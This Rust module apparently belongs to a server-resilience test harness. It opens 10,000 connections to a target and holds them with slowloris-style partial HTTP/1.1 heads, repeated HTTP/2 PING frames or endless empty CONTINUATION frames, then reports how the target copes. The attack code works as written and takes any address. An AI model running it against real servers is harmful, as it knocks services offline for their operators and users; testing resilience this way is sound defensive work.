//! Attacks with many connections that do little.

use std::{error::Error, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::{Instant, sleep, timeout},
};

use super::Target;

const CONNECTIONS: usize = 10_000;

/// How long to hold the connections, if the simulator does not end them.
const HOLD_TIME: Duration = Duration::from_secs(40);

/// The time between two parts of a request.
const PAUSE: Duration = Duration::from_secs(2);

/// What a connection sends.
pub struct Behavior {
    name: &'static str,
    first: &'static [u8],
    /// Sent again and again.
    then: &'static [u8],
}

pub const BEHAVIORS: [Behavior; 4] = [
    Behavior { name: "idle", first: b"GET /a HTTP/1.1\r\nhost: x\r\n\r\n", then: b"" },
    Behavior {
        name: "half a head",
        first: b"GET /a HTTP/1.1\r\nhost: x\r\n\r\nGET /b HTTP/1.1\r\nhost: ",
        then: b"",
    },
    Behavior { name: "HTTP/2 PING", first: HTTP2_REQUEST, then: PING },
    Behavior { name: "HTTP/2 CONTINUATION", first: HTTP2_HALF_HEAD, then: CONTINUATION },
];

/// A request for `/` on stream 1, with the settings of the client.
const HTTP2_REQUEST: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\
    \0\0\0\x04\0\0\0\0\0\
    \0\0\x06\x01\x05\0\0\0\x01\x82\x86\x84\x41\x01x";

const PING: &[u8] = b"\0\0\x08\x06\0\0\0\0\0abcdefgh";

/// The same request, and the beginning of another.
const HTTP2_HALF_HEAD: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\
    \0\0\0\x04\0\0\0\0\0\
    \0\0\x06\x01\x05\0\0\0\x01\x82\x86\x84\x41\x01x\
    \0\0\x01\x01\x01\0\0\0\x03\x82";

/// An empty part of its headers.
const CONTINUATION: &[u8] = b"\0\0\0\x09\0\0\0\0\x03";

/// Holds the connections until the simulator has ended all of them.
pub async fn hold(target: &Target, behavior: &Behavior) -> Result<(), Box<dyn Error>> {
    let (first, then) = (behavior.first, behavior.then);
    let begun = Instant::now();
    let mut connections = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let mut stream = TcpStream::connect(&target.address).await?;
        stream.write_all(first).await?;
        connections.spawn(async move { timeout(HOLD_TIME, until_end(stream, then)).await.is_ok() });
    }
    let opened = begun.elapsed();
    let ended = connections.join_all().await.into_iter().filter(|ended| *ended).count();
    let findings = format!(
        "{CONNECTIONS} opened in {:.1} s, {ended} ended by the simulator, the last after {:.1} s",
        opened.as_secs_f64(),
        begun.elapsed().as_secs_f64(),
    );
    target.report(behavior.name, &findings).await
}

/// Sends `part` again and again until the connection ends.
async fn until_end(mut stream: TcpStream, part: &[u8]) {
    let mut buffer = [0; 512];
    loop {
        tokio::select! {
            read = stream.read(&mut buffer) => match read {
                Ok(0) | Err(_) => return,
                Ok(_) => {}
            },
            () = sleep(PAUSE) => {
                if stream.write_all(part).await.is_err() {
                    return;
                }
            }
        }
    }
}
